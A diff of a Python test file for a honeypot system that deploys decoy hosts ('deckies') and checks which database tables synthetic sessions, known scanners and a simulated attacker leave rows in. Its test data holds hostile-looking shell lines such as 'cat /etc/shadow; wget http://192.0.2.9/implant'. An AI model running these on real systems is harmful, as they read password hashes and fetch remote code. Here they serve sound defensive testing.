@@ -1,7 +1,7 @@
 # SPDX-License-Identifier: MIT
 """What the orchestrator causes, and what known sources do, is in the event log and nowhere else.
 
-A real attacker beside them is everywhere.
+A real attacker beside them is everywhere. One fleet, in which deckies that a command deploys are visited, too.
 """
 
 from __future__ import annotations
@@ -11,15 +11,27 @@ import contextlib
 import socket
 import sqlite3
 import sys
-from pathlib import Path
+import time
+from collections.abc import AsyncIterator
+from typing import Any
+from uuid import uuid4
 
 import asyncssh
+import pytest
+import pytest_asyncio
 from tests.fleet.arena import DEFAULTS, PASSWORD, SOURCE, Arena
+from tests.forked_program import decnet
 
 from decnet.drill.private import HTTP_PORT, SSH_PORT
+from decnet_core import footprint
 from decnet_core.deckies.handover import HandoverClient, handover_sockets
 from decnet_core.runtime import worker_registry
 from decnet_core.state import State
+from decnet_models.database.engine import open_engine, reading, writing
+from decnet_models.realism import queries
+from decnet_models.realism.queries import Action
+
+pytestmark = pytest.mark.asyncio(loop_scope="module")
 
 PEER = "127.66.9.9"
 """Where the synthetic sessions come from."""
@@ -28,6 +40,27 @@ SCANNER = "127.66.8.8"
 ATTACK = "cat /etc/shadow; wget http://192.0.2.9/implant"
 KNOWS_SOURCES = {"attacker", "attacker_session", "credential_use", "ttp_tag", "notice"}
 """Tables in which an attacker who logs in and does ATTACK leaves rows, beside the event log."""
+
+WEB = {"user_agent": "curl/7.88.1", "pages": 2, "pauses": [0.0, 0.0], "choices": [0.0, 0.5]}
+SHELL = {"user": "deploy", "lines": ["id", "cat /etc/shadow", "uptime"], "pauses": [0.0, 0.1, 0.1]}
+NAMES = ("shop-01", "shop-02")
+MOST_UNIQUE = (16 if sys.version_info >= (3, 12) else 24) << 20
+"""Bytes of memory that the orchestrator has for itself while it is awake, with room: it is forked before its zygote
+is prepared, as whoever is woken, and replaced by one that takes half of that only when it stays busy. Older Pythons
+count references to what they share (PEP 683), and so have copies of it."""
+
+
+@pytest_asyncio.fixture(scope="module", loop_scope="module")
+async def arena(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Arena]:
+    life = {"DECNET_ORCHESTRATOR_ENABLED": "true", "DECNET_SUPERVISE_SHARE_MEMORY": "true"}
+    found = Arena(tmp_path_factory.mktemp("arena"), besides=life)
+    async with found.running():
+        yield found
+
+
+async def command(arena: Arena, *arguments: str) -> None:
+    done = await asyncio.to_thread(decnet, arena.environment, *arguments)
+    assert done.returncode == 0, done.stderr
 
 
 async def connected(arena: Arena, source: str, port: int, session: str | None) -> socket.socket:
@@ -91,24 +124,75 @@ def cursors_behind(arena: Arena) -> int:
         )
 
 
-async def test_synthetic_sessions_and_known_sources_reach_no_table_but_the_log_and_no_webhook(tmp_path: Path) -> None:
+async def deployed(arena: Arena) -> None:
+    for index, name in enumerate(NAMES):
+        address = f"127.77.{arena.block}.{50 + index}"
+        services = [word for each in ("http=18080", "ssh=12222") for word in ("--service", each)]
+        add = ("decky", "add", name, "--persona", "debian-web", "--runtime", "loopback", "--address", address)
+        await command(arena, *add, *services)
+
+
+def planned(arena: Arena) -> list[Action]:
+    """Plan sessions that are due now, as they come in working hours."""
+    bodies: list[tuple[str, dict[str, Any]]] = [("http", WEB), ("ssh", SHELL)]
+    actions = [
+        Action(uuid4(), "session", here, there, "debian-web", protocol, None, body, time.time_ns())
+        for protocol, body in bodies
+        for here, there in (NAMES, NAMES[::-1])
+    ]
+    engine = open_engine(arena.database)
+    with writing(engine) as connection:
+        queries.plan(connection, actions)
+    engine.dispose()
+    return actions
+
+
+async def until_ended(arena: Arena, actions: list[Action]) -> list[Action]:
+    engine = open_engine(arena.database, read_only=True)
+    wanted = {action.id for action in actions}
+    async with asyncio.timeout(100):
+        while True:
+            with reading(engine) as connection:
+                found = [
+                    one for name in NAMES for one in queries.actions_on(connection, name, 1000) if one.id in wanted
+                ]
+            if len(found) == len(actions) and all(one.ended_at for one in found):
+                engine.dispose()
+                return found
+            await asyncio.sleep(0.2)
+
+
+async def test_deployed_deckies_are_visited_and_no_attacker_comes_of_it(arena: Arena) -> None:
+    await deployed(arena)
+    done = await until_ended(arena, planned(arena))
+    assert [(action.state, action.error) for action in done] == [("done", None)] * 4
+    pid = arena.pid_of("orchestrator")
+    assert pid is not None
+    measured = footprint.measure(pid)
+    assert measured is not None
+    assert measured.uss <= MOST_UNIQUE
+    for index, _ in enumerate(NAMES):
+        address = f"127.77.{arena.block}.{50 + index}"
+        async with asyncio.timeout(30):
+            while "event" not in mentioning(arena, address):
+                await asyncio.sleep(0.1)
+        assert mentioning(arena, address) & {"attacker", "attacker_session", "ttp_tag", "notice"} == set()
+
+
+async def test_synthetic_sessions_and_known_sources_reach_no_table_but_the_log_and_no_webhook(arena: Arena) -> None:
     assert {"profiler", "ttp", "webhook", "ingest"} <= set(worker_registry.wanted(DEFAULTS))
-    arena = Arena(tmp_path)
-    async with arena.running():
-        known = ("known", "add", "127.66.8.0/24", "--label", "scanner")
-        added = await asyncio.create_subprocess_exec(sys.executable, "-m", "decnet", *known, env=arena.environment)
-        assert await added.wait() == 0
-        for visit in (browse, intrude):
-            await visit(arena, PEER, f"life-{visit.__name__}")
-            await visit(arena, SCANNER, None)
-            await visit(arena, SOURCE, None)
-        async with asyncio.timeout(60):
-            while not {"ttp.tagged", "attacker.observed"} <= {each.kind for each in arena.receiver.arrivals}:
-                arena.receiver.arrived.clear()
-                await arena.receiver.arrived.wait()
-            while not (mentioning(arena, PEER) and mentioning(arena, SCANNER)) or cursors_behind(arena):
-                await asyncio.sleep(0.05)
-        assert mentioning(arena, SOURCE) >= KNOWS_SOURCES
-        assert mentioning(arena, PEER) == {"event"}
-        assert mentioning(arena, SCANNER) == {"event", "artifact_sighting"}  # its session is recorded, too
-        assert not any({PEER, SCANNER} & set(map(str, each.data.values())) for each in arena.receiver.arrivals)
+    await command(arena, "known", "add", "127.66.8.0/24", "--label", "scanner")
+    for visit in (browse, intrude):
+        await visit(arena, PEER, f"life-{visit.__name__}")
+        await visit(arena, SCANNER, None)
+        await visit(arena, SOURCE, None)
+    async with asyncio.timeout(60):
+        while not {"ttp.tagged", "attacker.observed"} <= {each.kind for each in arena.receiver.arrivals}:
+            arena.receiver.arrived.clear()
+            await arena.receiver.arrived.wait()
+        while not (mentioning(arena, PEER) and mentioning(arena, SCANNER)) or cursors_behind(arena):
+            await asyncio.sleep(0.05)
+    assert mentioning(arena, SOURCE) >= KNOWS_SOURCES
+    assert mentioning(arena, PEER) == {"event"}
+    assert mentioning(arena, SCANNER) == {"event", "artifact_sighting"}  # its session is recorded, too
+    assert not any({PEER, SCANNER} & set(map(str, each.data.values())) for each in arena.receiver.arrivals)
